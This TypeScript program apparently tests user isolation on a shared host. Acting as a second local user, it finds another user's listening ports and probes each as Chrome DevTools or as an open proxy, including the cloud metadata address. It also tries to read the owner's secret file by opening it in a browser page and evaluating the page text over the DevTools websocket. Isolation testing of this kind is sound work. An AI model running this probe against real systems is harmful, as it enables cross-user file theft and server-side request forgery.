/** Program of a second user: finds the listening ports of another user, and tries each as DevTools and as a proxy. */
import { readFileSync } from "node:fs";
import { connect } from "node:net";

export interface SecondUserInput {
  readonly ownerUid: number;
  /** Port of pages and API, which everybody may use. */
  readonly publicPort: number;
  /** A file that only its owner may read. */
  readonly secretFile: string;
  /** Host and port that the running scan may reach. */
  readonly scanned: string;
}

export interface SecondUserReport {
  readonly uid: number;
  /** Ports on which the owner listens, as `ss -ltn` shows them, without the public one. */
  readonly ports: readonly number[];
  /** Responses to each attempt, cut. */
  readonly answers: readonly { readonly port: number; readonly attempt: string; readonly answer: string }[];
  /** Whether a proxy of the scan connects to the scanned site, so that the refusals above mean something. */
  readonly reachesScanned: boolean;
  /** Content of the file, read directly or through a DevTools port; null if both failed. */
  readonly secret: string | null;
}

const answerMs = 1_500;
const answerCharsMax = 2_000;
/** State of a listening socket in /proc/net/tcp, see proc(5). */
const listenState = "0A";

function listeningPorts(uid: number): readonly number[] {
  const rows = ["tcp", "tcp6"].flatMap((name) => readFileSync(`/proc/net/${name}`, "utf8").trim().split("\n").slice(1));
  const ports = rows.flatMap((row) => {
    const [, local = "", , state, , , , owner] = row.trim().split(/\s+/);
    return state === listenState && Number(owner) === uid ? [Number.parseInt(local.split(":").at(-1) ?? "", 16)] : [];
  });
  return [...new Set(ports)];
}

/** Sends the text and returns what came until the deadline. */
function exchange(port: number, text: string): Promise<string> {
  return new Promise((resolve) => {
    let answer = "";
    const socket = connect(port, "127.0.0.1", () => socket.write(text));
    const timer = setTimeout(() => socket.destroy(), answerMs);
    socket.on("data", (chunk) => {
      answer += chunk.toString("latin1");
      if (answer.length > answerCharsMax) socket.destroy();
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearTimeout(timer);
      resolve(answer.slice(0, answerCharsMax));
    });
  });
}

function request(method: string, target: string, host: string, more: readonly string[] = []): string {
  return [`${method} ${target} HTTP/1.1`, `Host: ${host}`, ...more, "", ""].join("\r\n");
}

const upgrade = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: MDEyMzQ1Njc4OTAxMjM0NQ=="];

function attempts(
  { publicPort, secretFile }: SecondUserInput,
  port: number,
): readonly { readonly attempt: string; readonly text: string }[] {
  const own = `127.0.0.1:${port}`;
  const file = `file://${secretFile}`;
  const targets = [`127.0.0.1:${publicPort}`, `localhost:${publicPort}`, `[::1]:${publicPort}`, own, "169.254.169.254:80"];
  return [
    { attempt: "devtools version", text: request("GET", "/json/version", own) },
    { attempt: "devtools new page", text: request("PUT", `/json/new?${file}`, own) },
    { attempt: "devtools socket", text: request("GET", "/devtools/browser", own, upgrade) },
    { attempt: "path", text: request("GET", secretFile, own) },
    { attempt: "file address", text: request("GET", file, own) },
    { attempt: "file tunnel", text: request("CONNECT", file, own) },
    ...targets.flatMap((target) => [
      { attempt: `tunnel to ${target}`, text: request("CONNECT", target, target) },
      { attempt: `request to ${target}`, text: request("GET", `http://${target}/healthz`, target) },
    ]),
  ];
}

/** Opens the file in a new page of the browser behind the port, and returns its text; null if no browser answers. */
async function readThroughDevtools(port: number, file: string): Promise<string | null> {
  const answer = await exchange(port, request("PUT", `/json/new?file://${file}`, `127.0.0.1:${port}`));
  const address = /"webSocketDebuggerUrl": "(ws:[^"]+)"/.exec(answer)?.[1];
  if (address === undefined) return null;
  const socket = new WebSocket(address);
  const text = await new Promise<string | null>((resolve) => {
    setTimeout(resolve, answerMs, null);
    socket.onerror = () => resolve(null);
    socket.onopen = () =>
      socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: "document.body.innerText" } }));
    socket.onmessage = ({ data }) => resolve(JSON.parse(String(data)).result?.result?.value ?? null);
  });
  socket.close();
  return text;
}

function readDirectly(file: string): string | null {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return null;
  }
}

if (import.meta.main) {
  const input: SecondUserInput = JSON.parse(process.argv[2] ?? "");
  const ports = listeningPorts(input.ownerUid).filter((port) => port !== input.publicPort);
  const [reach, answers, texts] = await Promise.all([
    Promise.all(ports.map((port) => exchange(port, request("CONNECT", input.scanned, input.scanned)))),
    Promise.all(
      ports.flatMap((port) =>
        attempts(input, port).map(async ({ attempt, text }) => ({ port, attempt, answer: await exchange(port, text) })),
      ),
    ),
    Promise.all(ports.map((port) => readThroughDevtools(port, input.secretFile))),
  ]);
  const report: SecondUserReport = {
    uid: process.getuid?.() ?? -1,
    ports,
    answers: answers.filter(({ answer }) => answer !== ""),
    reachesScanned: reach.some((answer) => answer.startsWith("HTTP/1.1 200")),
    secret: readDirectly(input.secretFile) ?? texts.find((text) => text !== null) ?? null,
  };
  process.stdout.write(JSON.stringify(report));
}
